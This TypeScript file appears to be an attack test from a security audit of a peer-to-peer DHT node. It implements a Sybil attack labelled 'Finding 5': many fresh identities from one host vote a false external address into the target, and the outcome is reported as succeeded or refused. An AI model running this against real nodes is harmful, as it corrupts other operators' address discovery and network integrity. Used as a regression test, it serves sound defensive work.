/**
 * Finding 5: the node learns the address it gives for its ICONs from what its peers say they see (every PONG
 * names the requester's address). Fresh node ids cost nothing, so one host opens many sockets, each with a
 * new id, gets each verified by the target (which pings it) and answers every PING with the address it wants
 * the target to believe.
 */
import { generateIdentity } from "../../identity/identity.ts";
import { MsgType, type Endpoint } from "../../dht/codec.ts";
import { UdpTransport } from "../../dht/transport/udp.ts";
import { paced, realWait, type AttackReport, type Wait } from "./dht-attacks.ts";
import { RawDhtPeer } from "./dht-raw-peer.ts";

export interface SybilVoteOptions {
  target: Endpoint;
  /** The address the target should come to believe is its own. */
  claim: Endpoint;
  /** Fresh ids, one socket each. */
  ids: number;
  /** The attacker's address (all ids share it, so they share its /24). @default 127.0.0.1 */
  source?: string;
  perSecond?: number;
  /** The target's external address once the votes are in. */
  externalAddress: () => Endpoint | undefined;
  wait?: Wait;
}

export async function sybilVotes(o: SybilVoteOptions): Promise<AttackReport> {
  const wait = o.wait ?? realWait;
  const peers: RawDhtPeer[] = [];
  let answered = 0;
  try {
    await paced(o.ids, o.perSecond, wait, async () => {
      const p = new RawDhtPeer(await UdpTransport.open(o.source ?? "127.0.0.1", 0), generateIdentity());
      p.claim = o.claim;
      peers.push(p);
      // A PING for the token, then one that echoes it without a proof: the target pings back for one.
      if (await p.ask(o.target, { type: MsgType.PING })) answered++;
      p.send(o.target, { type: MsgType.PING });
    });
    await wait(500);
    const pinged = peers.filter((p) => p.requests.some((r) => r.packet.body.type === MsgType.PING)).length;
    const now = o.externalAddress();
    const fooled = now?.address === o.claim.address && now.port === o.claim.port;
    return {
      finding: 5, attack: "dht-sybil-votes",
      outcome: fooled ? "succeeded" : "refused",
      detail: { ids: o.ids, answered, pinged, externalAddress: now ? `${now.address}:${now.port}` : "unknown" },
    };
  } finally {
    for (const p of peers) p.close();
  }
}
